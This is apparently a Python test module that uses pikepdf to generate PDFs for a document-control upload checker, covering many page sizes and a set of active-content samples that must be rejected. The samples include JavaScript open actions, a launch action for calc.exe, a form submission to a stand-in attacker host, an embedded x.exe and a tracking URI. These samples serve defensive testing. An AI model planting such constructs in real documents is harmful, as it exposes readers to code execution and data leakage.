"""Generated PDFs for the upload and stamping tests: many page sizes, and every kind of
active content a controlled copy must not carry. Built with pikepdf, no fixtures on disk."""
import io

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String


def _text_page(pdf, width, height, text):
    page = pdf.add_blank_page(page_size=(width, height))
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    y = max(height / 2, 40)
    lines = [text, f"Size {width} x {height} pt", "Uncontrolled test content / ISO 9001 7.5"]
    drawing = " ".join(f"BT /F1 9 Tf 40 {y - 12 * n:.1f} Td ({line}) Tj ET" for n, line in enumerate(lines))
    page.obj.Contents = pdf.make_stream(drawing.encode("latin-1"))
    return page


def many_sizes_pdf(sizes=200, pages=None, text="Page body"):
    """A small PDF (tens of KB) with `sizes` distinct page sizes, one page each (or
    `pages` pages cycling through the sizes)."""
    pdf = pikepdf.new()
    for n in range(pages or sizes):
        k = n % sizes
        _text_page(pdf, 300 + 2 * k, 400 + 3 * k, f"{text} {n + 1}")
    out = io.BytesIO()
    pdf.save(out, compress_streams=True, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def plain_pdf(text="Plain body", pages=1):
    return many_sizes_pdf(sizes=1, pages=pages, text=text)


def _javascript(pdf, code="app.alert('x');"):
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def _with(build):
    pdf = pikepdf.open(io.BytesIO(plain_pdf()))
    build(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _embed(pdf):
    data = pdf.make_stream(b"payload", Type=Name.EmbeddedFile)
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("x.exe"), UF=String("x.exe"),
                                        EF=Dictionary(F=data)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x.exe"), spec])))


def _annotation(pdf, **entries):
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([10, 10, 50, 50]), **entries))
    pdf.pages[0].obj.Annots = Array([annot])
    return annot


# name → builder of one PDF carrying that kind of active content
ACTIVE = {
    "open_action_javascript": lambda: _with(lambda pdf: setattr(pdf.Root, "OpenAction", _javascript(pdf))),
    "names_javascript": lambda: _with(lambda pdf: setattr(pdf.Root, "Names", Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _javascript(pdf)]))))),
    "page_additional_action": lambda: _with(lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(
        O=_javascript(pdf)))),
    "annotation_additional_action": lambda: _with(lambda pdf: setattr(pdf.Root, "AcroForm", Dictionary(
        Fields=Array([_annotation(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("f"),
                                  AA=Dictionary(K=_javascript(pdf)))])))),
    "link_launch": lambda: _with(lambda pdf: _annotation(
        pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("calc.exe")))),
    "link_submit_form": lambda: _with(lambda pdf: _annotation(
        pdf, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))),
    "link_import_data": lambda: _with(lambda pdf: _annotation(
        pdf, Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("data.fdf")))),
    "rich_media": lambda: _with(lambda pdf: _annotation(pdf, Subtype=Name.RichMedia)),
    "embedded_files": lambda: _with(_embed),
    "xfa_form": lambda: _with(lambda pdf: setattr(pdf.Root, "AcroForm", Dictionary(
        Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>")))),
    "open_action_uri": lambda: _with(lambda pdf: setattr(pdf.Root, "OpenAction", Dictionary(
        S=Name.URI, URI=String("https://tracker.example/")))),
    "outline_javascript": lambda: _with(lambda pdf: _outline(pdf)),
}


def _outline(pdf):
    item = pdf.make_indirect(Dictionary(Title=String("Go"), A=_javascript(pdf)))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


def harmless_links_pdf():
    """Ordinary navigation a Word export contains: a go-to outline, an internal link and a web link."""
    def build(pdf):
        page = pdf.pages[0].obj
        _annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.iso.org/")))
        page.Annots.append(pdf.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([60, 10, 90, 50]), Dest=Array([page, Name.Fit]))))
        pdf.Root.OpenAction = Array([page, Name.Fit])
    return _with(build)


def upload(data, name="doc.pdf"):
    return SimpleUploadedFile(name, data, content_type="application/pdf")
